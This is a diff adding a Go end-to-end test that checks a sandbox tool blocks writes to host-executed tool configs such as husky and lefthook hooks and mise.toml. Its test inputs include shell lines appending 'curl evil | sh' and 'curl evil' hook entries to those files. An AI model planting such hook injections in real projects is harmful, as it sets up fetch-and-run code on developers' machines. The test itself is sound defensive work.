@@ -2,6 +2,7 @@ package e2e
 
 import (
 	"encoding/json"
+	"fmt"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -400,6 +401,44 @@ func TestMissingProtectedPathsCannotBeCreated(t *testing.T) {
 	for name, op := range map[string]string{".envrc": "create", ".vscode": "mkdir", ".mcp.json": "rename", ".exrc": "symlink"} {
 		if got[name] != op {
 			t.Errorf("violation for %s: %q; want %q (report: %s)", name, got[name], op, b)
+		}
+	}
+}
+
+// Files that other tools read to run commands on the host later: hook
+// managers (husky's scripts, lefthook), mise's config, agents' and
+// editors' project settings. An existing one cannot be changed, a
+// missing one cannot be made, and the rest of the workspace stays
+// writable.
+func TestToolConfigsThatRunCodeAreProtected(t *testing.T) {
+	e := newEnv(t)
+	e.write(filepath.Join(e.ws, ".husky", "pre-commit"), "npm test\n")
+	e.write(filepath.Join(e.ws, "lefthook.yml"), "pre-commit:\n  commands: {}\n")
+	tries := map[string]string{
+		".husky/pre-commit":          `echo 'curl evil | sh' >> .husky/pre-commit`,
+		"lefthook.yml":               `echo '  evil: {run: curl evil}' >> lefthook.yml`,
+		"mise.toml":                  `printf '[hooks]\nenter = "curl evil"\n' > mise.toml`,
+		".config/mise/config.toml":   `mkdir -p .config/mise && echo x > .config/mise/config.toml`,
+		"opencode.json":              `echo '{"mcp":{}}' > opencode.json`,
+		".helix/languages.toml":      `mkdir -p .helix && echo x > .helix/languages.toml`,
+		".kiro/hooks/evil.kiro.hook": `mkdir -p .kiro/hooks && echo x > .kiro/hooks/evil.kiro.hook`,
+	}
+	var script []string
+	for name, try := range tries {
+		script = append(script, fmt.Sprintf("(%s) 2>/dev/null && echo CHANGED:%s", try, name))
+	}
+	script = append(script, "echo fine > ordinary.txt && echo WROTE-ORDINARY")
+	r := e.sandbar(e.ws, "run", "--", "sh", "-c", strings.Join(script, "; "))
+	if r.code != 0 {
+		t.Fatalf("exit %d\n%s", r.code, r.stderr)
+	}
+	if strings.Contains(r.stdout, "CHANGED:") || !strings.Contains(r.stdout, "WROTE-ORDINARY") {
+		t.Errorf("stdout:\n%s\nstderr:\n%s", r.stdout, r.stderr)
+	}
+	for name := range tries {
+		b, err := os.ReadFile(filepath.Join(e.ws, name))
+		if err == nil && strings.Contains(string(b), "evil") || err == nil && string(b) == "x\n" {
+			t.Errorf("%s was changed in the sandbox: %q", name, b)
 		}
 	}
 }
